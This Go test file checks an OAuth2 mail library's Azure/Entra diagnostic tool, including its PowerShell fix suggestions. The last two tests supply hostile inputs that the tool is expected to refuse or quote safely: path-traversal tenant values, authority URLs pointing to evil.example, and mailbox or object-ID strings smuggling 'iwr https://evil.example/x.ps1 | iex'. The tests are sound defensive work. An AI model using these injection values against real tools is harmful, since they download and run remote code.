package doctor_test

import (
	"context"
	"errors"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync/atomic"
	"testing"

	"github.com/emersion/go-imap/v2/imapclient"
	"github.com/emersion/go-smtp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/oauth2mail/oauth2mail/azure"
	"github.com/oauth2mail/oauth2mail/doctor"
	"github.com/oauth2mail/oauth2mail/mailauth"
	"github.com/oauth2mail/oauth2mail/mailtest"
	"github.com/oauth2mail/oauth2mail/oauth2client"
	"github.com/oauth2mail/oauth2mail/tokenstore"
	"github.com/oauth2mail/oauth2mail/xoauth2"
)

const (
	mailbox  = "shared@contoso.example"
	redirect = "https://mail.contoso.example/oauth2/callback"
	spObject = "6233fba6-0198-4277-892f-9275bf728bcc"
)

// fixture is a fake Entra ID with IMAP and SMTP servers that check its
// tokens, and a doctor configuration pointing at them.
type fixture struct {
	entra *mailtest.Azure
	cfg   doctor.AzureConfig
}

type fixtureOptions struct {
	azure mailtest.AzureOptions
	// imapRefuses makes the IMAP server refuse every token, as Exchange
	// does for an app whose service principal is not registered.
	imapRefuses bool
	// smtpDisabled makes SMTP answer 535 5.7.139 like Exchange with SMTP
	// AUTH disabled.
	smtpDisabled string
}

func newFixture(t *testing.T, o fixtureOptions) *fixture {
	t.Helper()
	o.azure.RedirectURIs = append(o.azure.RedirectURIs, redirect)
	entra, err := mailtest.NewAzure(o.azure)
	require.NoError(t, err)
	t.Cleanup(entra.Close)
	cert, err := mailtest.NewCertificate()
	require.NoError(t, err)

	var checker mailtest.TokenChecker = entra.Ledger()
	if o.imapRefuses {
		checker = refuseAll{}
	}
	imapSrv, err := mailtest.NewIMAPServer(mailtest.MailOptions{Tokens: checker, TLS: cert.ServerConfig()})
	require.NoError(t, err)
	t.Cleanup(func() { imapSrv.Close() })

	smtpSrv, err := mailtest.NewSMTPServer(mailtest.MailOptions{Tokens: entra.Ledger(), TLS: cert.ServerConfig(), SMTPAuthDisabled: o.smtpDisabled})
	require.NoError(t, err)
	t.Cleanup(func() { smtpSrv.Close() })
	f := &fixture{entra: entra}
	appOnly := entra.AzureConfig()
	appOnly.AppOnly = true
	f.cfg = doctor.AzureConfig{
		Azure:              appOnly,
		RedirectURL:        redirect,
		Mailbox:            mailbox,
		EnterpriseObjectID: spObject,
		IMAP: func(ctx context.Context, user string, tok oauth2client.Secret) error {
			c, err := imapclient.DialTLS(imapSrv.Addr, &imapclient.Options{TLSConfig: cert.ClientConfig()})
			if err != nil {
				return err
			}
			defer c.Close()
			return c.Authenticate(xoauth2.NewClient(user, string(tok)))
		},
		SMTP: func(ctx context.Context, user string, tok oauth2client.Secret) error {
			c, err := smtp.DialStartTLS(smtpSrv.Addr, cert.ClientConfig())
			if err != nil {
				return err
			}
			defer c.Close()
			return c.Auth(mailauth.ForSMTP(xoauth2.NewClient(user, string(tok))))
		},
	}
	return f
}

type refuseAll struct{}

func (refuseAll) Check(string, string) (mailtest.TokenInfo, error) {
	return mailtest.TokenInfo{}, mailtest.ErrUnknownToken
}

func statuses(r *doctor.Report) map[string]doctor.Status {
	m := map[string]doctor.Status{}
	for _, s := range r.Steps {
		m[s.Name] = s.Status
	}
	return m
}

func TestAzureAppOnlyAllPass(t *testing.T) {
	f := newFixture(t, fixtureOptions{})
	r := doctor.Azure(context.Background(), f.cfg)
	var out strings.Builder
	_, err := r.WriteTo(&out)
	require.NoError(t, err)
	assert.True(t, r.OK(), out.String())
	assert.Equal(t, map[string]doctor.Status{
		doctor.StepSettings: doctor.Pass,
		doctor.StepTenant:   doctor.Pass, doctor.StepCredential: doctor.Pass, doctor.StepRedirectURI: doctor.Skip,
		doctor.StepPermissions: doctor.Pass, doctor.StepIMAP: doctor.Pass, doctor.StepSMTP: doctor.Pass,
	}, statuses(r), out.String())
	assert.NotContains(t, out.String(), f.entra.ClientSecret())
}

func TestAzureDelegatedAllPass(t *testing.T) {
	f := newFixture(t, fixtureOptions{azure: mailtest.AzureOptions{Users: []mailtest.AzureUser{{Email: mailbox}}}})
	f.cfg.Azure.AppOnly = false
	ctx := context.Background()
	p, err := azure.New(f.cfg.Azure)
	require.NoError(t, err)
	c, err := oauth2client.New(oauth2client.Config{RedirectURL: redirect, Store: tokenstore.NewMemory()})
	require.NoError(t, err)
	require.NoError(t, c.SetConnection("m365", p))
	require.NoError(t, mailtest.Connect(ctx, c, f.entra, "m365", "acct", nil))
	f.cfg.Token = func(ctx context.Context) (oauth2client.Secret, error) {
		tok, err := c.Token(ctx, "acct")
		if err != nil {
			return "", err
		}
		return tok.AccessToken, nil
	}

	r := doctor.Azure(ctx, f.cfg)
	var out strings.Builder
	_, _ = r.WriteTo(&out)
	assert.True(t, r.OK(), out.String())
	assert.Equal(t, doctor.Pass, r.Step(doctor.StepRedirectURI).Status)
	assert.Contains(t, r.Step(doctor.StepRedirectURI).Detail, "is registered for the app (checked with Entra's authorize endpoint)")
	assert.Equal(t, doctor.Pass, r.Step(doctor.StepPermissions).Status)
	assert.Contains(t, r.Step(doctor.StepPermissions).Detail, "IMAP.AccessAsUser.All and SMTP.Send")
	assert.Equal(t, doctor.Pass, r.Step(doctor.StepIMAP).Status)
}

func TestAzureFailures(t *testing.T) {
	for _, tc := range []struct {
		name    string
		opts    fixtureOptions
		tweak   func(cfg *doctor.AzureConfig)
		step    string
		fix     []string
		skipped []string
	}{
		{"unknown tenant", fixtureOptions{}, func(cfg *doctor.AzureConfig) { cfg.Azure.Tenant = "99999999-9999-4999-8999-999999999999" },
			doctor.StepTenant, []string{"AADSTS90002", "99999999-9999-4999-8999-999999999999"}, []string{doctor.StepCredential, doctor.StepIMAP}},
		{"wrong secret (the secret's ID pasted)", fixtureOptions{}, func(cfg *doctor.AzureConfig) { cfg.Azure.ClientSecret = "wrong~secret-value" },
			doctor.StepCredential, []string{"secret's ID", "Value"}, []string{doctor.StepPermissions, doctor.StepIMAP, doctor.StepSMTP}},
		{"missing consent: token without the roles", fixtureOptions{azure: mailtest.AzureOptions{AppRoles: []string{"User.Read.All"}}}, nil,
			doctor.StepPermissions, []string{"grant admin consent", "Application permissions > IMAP.AccessAsApp, SMTP.SendAsApp", "adminconsent"},
			[]string{doctor.StepIMAP, doctor.StepSMTP}},
		{"IMAP refuses a valid token", fixtureOptions{imapRefuses: true}, nil,
			doctor.StepIMAP, []string{"New-ServicePrincipal -AppId '00000000-", "-ObjectId '" + spObject + "'",
				"Add-MailboxPermission -Identity '" + mailbox + "' -User '" + spObject + "' -AccessRights FullAccess"}, nil},
		{"SMTP AUTH disabled for the tenant", fixtureOptions{smtpDisabled: "Tenant"}, nil,
			doctor.StepSMTP, []string{"Set-CASMailbox -Identity '" + mailbox + "' -SmtpClientAuthenticationDisabled $false",
				"Set-TransportConfig -SmtpClientAuthenticationDisabled $false"}, nil},
		{"bad redirect URI", fixtureOptions{}, func(cfg *doctor.AzureConfig) {
			cfg.Azure.AppOnly = false
			cfg.RedirectURL = "http://mail.contoso.example/oauth2/callback"
		}, doctor.StepRedirectURI, []string{"https", "Authentication > Web > Redirect URIs"}, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, tc.opts)
			if tc.tweak != nil {
				tc.tweak(&f.cfg)
			}
			r := doctor.Azure(context.Background(), f.cfg)
			var out strings.Builder
			_, _ = r.WriteTo(&out)
			assert.False(t, r.OK(), out.String())
			s := r.Step(tc.step)
			require.NotNil(t, s, out.String())
			assert.Equal(t, doctor.Fail, s.Status, out.String())
			for _, want := range tc.fix {
				assert.Contains(t, s.Fix+s.Detail, want, out.String())
			}
			for _, name := range tc.skipped {
				assert.Equal(t, doctor.Skip, r.Step(name).Status, "%s after a failed %s\n%s", name, tc.step, out.String())
			}
			for _, other := range r.Steps {
				if other.Name != tc.step && other.Status == doctor.Fail {
					t.Errorf("step %q failed too:\n%s", other.Name, out.String())
				}
			}
			assert.NotContains(t, out.String(), f.entra.ClientSecret())
		})
	}
}

func TestReport(t *testing.T) {
	r := &doctor.Report{Steps: []doctor.Step{{Name: "a", Status: doctor.Pass, Detail: "fine"}, {Name: "b", Status: doctor.Fail, Detail: "broken", Fix: "do x\ndo y"}}}
	var out strings.Builder
	_, err := r.WriteTo(&out)
	require.NoError(t, err)
	assert.Equal(t, "PASS  a            fine\nFAIL  b            broken\n              do x\n              do y\n", out.String())
	assert.False(t, r.OK())
	assert.Nil(t, r.Step("c"))
	_, err = r.WriteTo(failingWriter{})
	assert.Error(t, err)
}

type failingWriter struct{}

func (failingWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

// counting counts the requests that reach the network.
type counting struct {
	base http.RoundTripper
	n    atomic.Int32
}

func (c *counting) RoundTrip(r *http.Request) (*http.Response, error) {
	c.n.Add(1)
	return c.base.RoundTrip(r)
}

// TestHostileTenantAndAuthority: values the azure package refuses fail
// the tenant step before any request, instead of being fetched.
func TestHostileTenantAndAuthority(t *testing.T) {
	for _, tc := range []struct {
		name, tenant, authority string
	}{
		{"query in tenant", "x?y", ""},
		{"path traversal", "../", ""},
		{"dot-dot", "..", ""},
		{"another path", "evil.example/..", ""},
		{"user information", "@evil.example", ""},
		{"encoded traversal", "%2e%2e", ""},
		{"http authority", "contoso.example", "http://login.contoso.example"},
		{"foreign host through the authority", "contoso.example", "https://login.microsoftonline.com@evil.example"},
		{"http authority in the tenant", "http://evil.example", ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			f := newFixture(t, fixtureOptions{})
			rt := &counting{base: f.entra.Client().Transport}
			f.cfg.Azure.HTTPClient = &http.Client{Transport: rt}
			f.cfg.Azure.Tenant = tc.tenant
			if tc.authority != "" {
				f.cfg.Azure.AuthorityURL = tc.authority
			}
			r := doctor.Azure(context.Background(), f.cfg)
			var out strings.Builder
			_, _ = r.WriteTo(&out)
			assert.Equal(t, doctor.Fail, r.Step(doctor.StepTenant).Status, out.String())
			assert.Equal(t, doctor.Skip, r.Step(doctor.StepCredential).Status, out.String())
			assert.Zero(t, rt.n.Load(), "no request before the inputs are valid\n%s", out.String())
			_, err := azure.New(f.cfg.Azure)
			assert.ErrorIs(t, err, azure.ErrConfig, "the provider refuses the same value")
		})
	}
	t.Run("redirect to another host", func(t *testing.T) {
		away := httptest.NewTLSServer(http.RedirectHandler("https://login.evil.example/", http.StatusFound))
		defer away.Close()
		f := newFixture(t, fixtureOptions{})
		f.cfg.Azure.AuthorityURL, f.cfg.Azure.HTTPClient = away.URL, away.Client()
		r := doctor.Azure(context.Background(), f.cfg)
		assert.Equal(t, doctor.Fail, r.Step(doctor.StepTenant).Status)
	})
}

// TestHostileMailbox: a mailbox that is not a plain address is refused
// and never pasted into PowerShell; quotes in pasted values are doubled.
func TestHostileMailbox(t *testing.T) {
	const hostile = "alice@corp.example; iwr https://evil.example/x.ps1 | iex; #"
	f := newFixture(t, fixtureOptions{imapRefuses: true, smtpDisabled: "Tenant"})
	f.cfg.Mailbox = hostile
	r := doctor.Azure(context.Background(), f.cfg)
	var out strings.Builder
	_, _ = r.WriteTo(&out)
	assert.Equal(t, doctor.Fail, r.Step(doctor.StepIMAP).Status, out.String())
	assert.Equal(t, doctor.Fail, r.Step(doctor.StepSMTP).Status, out.String())
	for _, line := range strings.Split(out.String(), "\n") {
		if strings.Contains(line, "-Identity") || strings.Contains(line, "Connect-ExchangeOnline") {
			t.Errorf("PowerShell printed with a refused mailbox: %s", line)
		}
	}

	for _, m := range []string{"o'brien@contoso.example", "Alice <alice@contoso.example>", "a$(iwr x)@contoso.example", "a@b\nSet-X"} {
		f.cfg.Mailbox = m
		r = doctor.Azure(context.Background(), f.cfg)
		s := r.Step(doctor.StepIMAP)
		require.NotNil(t, s)
		assert.Contains(t, s.Detail, "not a plain mail address", m)
	}

	f.cfg.Mailbox = mailbox
	f.cfg.EnterpriseObjectID = "x'; iwr https://evil.example/x.ps1 | iex; '"
	r = doctor.Azure(context.Background(), f.cfg)
	s := r.Step(doctor.StepIMAP)
	require.NotNil(t, s)
	assert.Contains(t, s.Fix, `-ObjectId 'x''; iwr https://evil.example/x.ps1 | iex; '''`, "an embedded quote is doubled: the value stays one literal string")
	f.cfg.EnterpriseObjectID = "x\u2019; iex"
	r = doctor.Azure(context.Background(), f.cfg)
	assert.Contains(t, r.Step(doctor.StepIMAP).Fix, "-ObjectId 'x\u2019\u2019; iex'", "PowerShell's typographic single quotes are doubled too")
}
